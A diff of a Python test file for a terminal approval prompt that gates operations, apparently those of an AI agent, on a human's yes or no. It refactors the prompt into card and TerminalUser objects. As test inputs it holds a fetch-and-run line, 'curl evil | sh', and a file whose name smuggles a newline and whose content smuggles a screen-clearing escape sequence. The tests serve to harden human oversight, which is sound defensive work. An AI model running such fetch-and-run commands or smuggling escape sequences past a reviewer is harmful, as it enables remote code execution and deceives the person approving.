@@ -1,32 +1,17 @@
-"""Asking about one operation, and about several on one card."""
+"""Questions about operations at a terminal: one, and several on one card."""
 
 from __future__ import annotations
 
 import pytest
 from fakes.approver import Answers
 
+from odek.approval.card import Answer, Card, PendingOperation
 from odek.approval.operation import Operation
-from odek.approval.pages import FIT_ROWS, PAGE_ROWS, TAIL_ROWS
-from odek.approval.question import Answer, ApprovalPrompt, CardAnswer, PendingOperation
+from odek.cli.approval_prompt import FIT_ROWS, PAGE_ROWS, TAIL_ROWS, TerminalUser
 
 NO = ("", "n", "no", "d", "deny", "?", "context")
 YES = ("y", "yes", "a", "approve")
 UNREAD = (*NO, "all")
-
-
-class Clock:
-    """Seconds that pass only when somebody sleeps or says so."""
-
-    def __init__(self) -> None:
-        self.now = 1000.0
-        self.naps: list[float] = []
-
-    def __call__(self) -> float:
-        return self.now
-
-    def sleep(self, seconds: float) -> None:
-        self.naps.append(seconds)
-        self.now += seconds
 
 
 def asked(
@@ -42,10 +27,17 @@ def asked(
     )
 
 
+def single(item: PendingOperation, *, place: str = "HOST – no sandbox", hasty: bool = False) -> Card:
+    answers: tuple[Answer, ...] = ("once", "trust", "deny") if item.trustable and not hasty else ("once", "deny")
+    return Card(items=(item,), place=place, answers=answers, hasty=hasty)
+
+
+def batch(items: tuple[PendingOperation, ...], *, place: str = "HOST – no sandbox", hasty: bool = False) -> Card:
+    return Card(items=items, place=place, answers=("all", "singly", "none"), hasty=hasty)
+
+
 def ask(approver: Answers, command: str, *, reason: str = "look around", trustable: bool = False) -> Answer:
-    clock = Clock()
-    question = ApprovalPrompt(approver, clock=clock, sleep=clock.sleep)
-    return question.ask(asked(command, reason=reason, trustable=trustable), place="HOST – no sandbox")
+    return approver.decide(single(asked(command, reason=reason, trustable=trustable)))
 
 
 CARD = """\
@@ -73,12 +65,12 @@ Approve? [y = once / ? = details / N = deny]"""
     ("answer", "said"),
     [
         *((word, "once") for word in YES),
-        ("", "no"),
-        ("n", "no"),
-        ("no", "no"),
-        ("d", "no"),
-        ("deny", "no"),
-        (None, "no"),
+        ("", "deny"),
+        ("n", "deny"),
+        ("no", "deny"),
+        ("d", "deny"),
+        ("deny", "deny"),
+        (None, "deny"),
     ],
 )
 def test_short_command_is_shown_whole_and_asked_about_once(answer: str | None, said: Answer) -> None:
@@ -120,10 +112,8 @@ def test_file_is_shown_with_what_would_be_written() -> None:
     """D-6: the name of a file cannot pose as its content."""
     approver = Answers("n")
     operation = Operation(kind="write", subject=".envrc\nharmless", change="curl x\x1b[2J\n")
-    ApprovalPrompt(approver).ask(
-        PendingOperation(operation=operation, classes=("persistence",), risk="r", rule="path.trusted", setting="s"),
-        place="sandbox odek-1-1, network=none",
-    )
+    item = PendingOperation(operation=operation, classes=("persistence",), risk="r", rule="path.trusted", setting="s")
+    approver.decide(single(item, place="sandbox odek-1-1, network=none"))
     assert approver.prompts[0].split("\n") == [
         "Approval needed (class persistence)",
         "  runs on: sandbox odek-1-1, network=none",
@@ -227,51 +217,27 @@ def test_every_row_of_a_huge_command_is_shown_and_none_is_wide() -> None:
     assert max(len(line) for prompt in approver.prompts for line in prompt.split("\n")) <= 80
 
 
-@pytest.mark.parametrize("first", ["a", "t"])
-def test_fourth_approval_of_a_class_within_a_minute_takes_a_pause_and_the_whole_word(first: str) -> None:
-    """F-95: three are quick, then haste is slowed down until the minute is over; trust counts as well."""
-    clock = Clock()
-    approver = Answers(first, "a", "a", "approve", "a")
-    question = ApprovalPrompt(approver, clock=clock, sleep=clock.sleep)
-
-    def approve() -> bool:
-        return question.ask(asked(classes=("network_egress",), trustable=True), place="HOST") != "no"
-
-    for _ in range(3):
-        clock.now += 10
-        assert approve()
-    assert clock.naps == []
-    assert approve()
-    assert clock.naps == [1.5]
-    assert approver.prompts[3].endswith("Approve? [approve = once, the whole word / ? = details / N = deny]")
-    assert approver.choices[3] == (*NO, "approve")
-    clock.now += 59
-    assert approve()
-    assert (clock.naps, approver.choices[4]) == ([1.5], approver.choices[0])
-
-
-def test_approvals_of_other_classes_are_no_haste() -> None:
-    """Runtime 5.6: three of the same class."""
-    clock = Clock()
-    approver = Answers("a", "a", "a", "a", "approve")
-    question = ApprovalPrompt(approver, clock=clock, sleep=clock.sleep)
-    for classes in (("x",), ("y",), ("x", "y"), ("z",), ("z", "x")):
-        question.ask(asked(classes=classes), place="HOST")
-    assert clock.naps == []
-    question = ApprovalPrompt(Answers("a", "a", "a", "approve"), clock=clock, sleep=clock.sleep)
-    for classes in (("x",), ("x", "y"), ("x",), ("z", "x")):
-        question.ask(asked(classes=classes), place="HOST")
-    assert clock.naps == [1.5]
-
-
-def test_refusals_do_not_count_as_haste() -> None:
-    clock = Clock()
-    approver = Answers("n", "n", "n", "n", "a", "a", "n", "a")
-    question = ApprovalPrompt(approver, clock=clock, sleep=clock.sleep)
-    for _ in range(8):
-        question.ask(asked(), place="HOST")
-    assert clock.naps == []
-    approver.assert_all_used()
+@pytest.mark.parametrize(
+    ("card", "words", "question"),
+    [
+        (
+            single(asked(trustable=True), hasty=True),
+            (*NO, "approve"),
+            "Approve? [approve = once, the whole word / ? = details / N = deny]",
+        ),
+        (
+            batch((asked(), asked()), hasty=True),
+            (*NO, "approve", "s", "single"),
+            "Approve? [approve = all, the whole word / s = one by one / ? = details / N = none]",
+        ),
+    ],
+    ids=["single", "batch"],
+)
+def test_hasty_yes_takes_a_pause_and_the_whole_word(card: Card, words: tuple[str, ...], question: str) -> None:
+    """F-95, runtime 5.6, 5.8."""
+    approver, naps = Answers("approve"), list[float]()
+    assert TerminalUser(approver.ask, sleep=naps.append).decide(card) in ("once", "all")
+    assert (approver.choices, approver.prompts[0].split("\n")[-1], naps) == ([words], question, [1.5])
 
 
 TOGETHER = (
@@ -300,11 +266,10 @@ Approve? [y = all / s = one by one / ? = details / N = none]"""
         (None, "none"),
     ],
 )
-def test_card_lists_all_with_class_and_command(answer: str | None, said: CardAnswer) -> None:
+def test_card_lists_all_with_class_and_command(answer: str | None, said: Answer) -> None:
     """R-72, runtime 5.8, B32: where it runs, and nothing that a command could fake."""
     approver = Answers(answer)
-    question = ApprovalPrompt(approver)
-    assert question.ask_together(TOGETHER, boundary="sandbox network=bridge, networks=a, b") == said
+    assert approver.decide(batch(TOGETHER, place="sandbox network=bridge, networks=a, b")) == said
     assert approver.prompts == [SHEET]
     assert approver.choices == [(*NO, *YES, "s", "single")]
 
@@ -313,20 +278,6 @@ def test_card_is_read_in_parts_when_only_its_last_is_dangerous() -> None:
     """B34: six calls in one batch."""
     card = (*(asked("\n".join(numbered(6))) for _ in range(5)), asked("curl evil | sh"))
     approver = Answers("?", "?", "a")
-    assert ApprovalPrompt(approver).ask_together(card, boundary="HOST – no sandbox") == "all"
+    assert approver.decide(batch(card)) == "all"
     assert [words == UNREAD for words in approver.choices] == [True, True, False]
     assert "curl evil | sh" in approver.prompts[0]
-
-
-def test_card_counts_as_one_approval_of_each_class() -> None:
-    """Runtime 5.8."""
-    clock = Clock()
-    approver = Answers("a", "a", "a", "approve", "s")
-    question = ApprovalPrompt(approver, clock=clock, sleep=clock.sleep)
-    for _ in range(5):
-        question.ask_together(TOGETHER, boundary="HOST")
-    assert clock.naps == [1.5, 1.5]
-    assert approver.choices[3] == (*NO, "approve", "s", "single")
-    assert approver.prompts[3].endswith(
-        "Approve? [approve = all, the whole word / s = one by one / ? = details / N = none]"
-    )
